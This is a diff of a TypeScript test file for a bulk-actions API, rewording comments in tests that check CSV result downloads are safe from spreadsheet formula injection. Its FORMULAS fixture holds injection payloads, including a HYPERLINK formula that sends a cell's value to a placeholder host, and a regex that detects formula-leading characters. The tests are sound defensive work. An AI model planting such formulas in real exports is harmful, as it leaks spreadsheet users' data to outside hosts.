@@ -18,7 +18,7 @@ const STATUSES: OutcomeStatus[] = ['success', 'failure', 'success', 'skipped'];
 const statusOf = (position: number): OutcomeStatus => STATUSES[position % STATUSES.length]!;
 const failing = entitiesOf(SIZE).filter((_, position) => statusOf(position) === 'failure');
 
-/** An action that has run: with the logs that stats-aggregator would have written. */
+/** Creates an action that has run, with the logs that stats-aggregator would have written. */
 async function ended(config: Record<string, unknown> = {}): Promise<string> {
   const { body } = await harness.post({
     actionType: 'update',
@@ -35,7 +35,7 @@ async function ended(config: Record<string, unknown> = {}): Promise<string> {
   return actionId;
 }
 
-/** Writes the logs of a dispatched action, and its end, as stats-aggregator would. */
+/** Writes the logs and the end of a dispatched action, as stats-aggregator would. */
 async function withOutcomes(actionId: string): Promise<void> {
   const batches = await harness.database.stagedBatches.find({ actionId }).toArray();
   const counts = { success: 0, failure: 0, skipped: 0 };
@@ -127,7 +127,7 @@ describe('POST /bulk-actions/:id/retry', () => {
 });
 
 const UPDATE_CONFIG = encodeURIComponent('{}');
-/** Ids and refs that spreadsheets run. */
+/** Ids and refs that spreadsheets would run as formulas. */
 const FORMULAS = [
   '=HYPERLINK("http://example.invalid/?leak="&A1,"open")',
   '@SUM(1+9)',
@@ -213,10 +213,10 @@ describe('results', () => {
     const sent = FORMULAS.map(({ id, ref }) => [id, ref]);
     expect(values(exact.text)).toEqual(sent);
     const { text } = await download(`/bulk-actions/${actionId}/results.csv`);
-    // Some spreadsheets split at commas, others at semicolons and tabs wherever they are.
+    // Some spreadsheets split at commas, others at semicolons and tabs, wherever these are.
     const cells = [...parse(text).flat(), ...text.split(/[;\t\r\n]/)];
     expect(cells.filter((cell) => /^[\s\p{C}"]*[=+\-@＝＋－＠]/u.test(cell))).toEqual([]);
-    // Nothing but apostrophes is added.
+    // Only apostrophes are added.
     const bare = (all: string[][]): string[][] =>
       all.map((row) => row.map((cell) => cell.replaceAll("'", '')));
     expect(bare(values(text))).toEqual(bare(sent));
